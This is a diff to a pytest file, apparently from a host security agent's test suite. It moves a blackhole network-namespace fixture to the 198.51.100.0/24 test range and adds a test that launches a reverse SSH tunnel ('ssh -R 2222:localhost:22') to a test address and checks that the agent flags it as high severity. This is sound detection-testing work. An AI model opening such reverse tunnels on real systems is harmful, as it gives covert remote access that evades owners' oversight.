@@ -197,13 +197,14 @@ def test_memfd_exec(agent: AgentRun, tmp_path: Path, procs) -> None:
 
 @pytest.fixture
 def blackhole_netns() -> Iterator[str]:
-    """A network namespace where 203.0.113.0/24 routes to loopback and never answers."""
-    name = f"sentinel-test-{secrets.token_hex(3)}"
+    """A test-made network namespace where 198.51.100.0/24 (the test range) routes to its
+    loopback and never answers: ssh stays connecting, nothing leaves the namespace."""
+    name = f"sentinel-test-{os.getpid()}-{secrets.token_hex(3)}"
     subprocess.run(["ip", "netns", "add", name], check=True)
     try:
         subprocess.run(["ip", "-n", name, "link", "set", "lo", "up"], check=True)
         subprocess.run(
-            ["ip", "-n", name, "route", "add", "203.0.113.0/24", "dev", "lo"], check=True
+            ["ip", "-n", name, "route", "add", "198.51.100.0/24", "dev", "lo"], check=True
         )
         yield name
     finally:
@@ -223,7 +224,7 @@ def in_netns(name: str):
 
 def test_reverse_ssh_tunnel(agent: AgentRun, blackhole_netns: str, procs) -> None:
     argv = ["ssh", "-N", "-o", "BatchMode=yes", "-o", "ConnectTimeout=20"]
-    argv += ["-R", "2222:localhost:22", "user@203.0.113.5"]
+    argv += ["-R", "2222:localhost:22", "user@198.51.100.5"]
     p = spawn(procs, argv, preexec_fn=in_netns(blackhole_netns), stderr=subprocess.DEVNULL)
     rec = agent.wait_for(about(p.pid, "tunnel", "tunnel.ssh_reverse"))
     assert severity_at_least(rec, "high") and "-R" in rec["process"]["cmdline"]
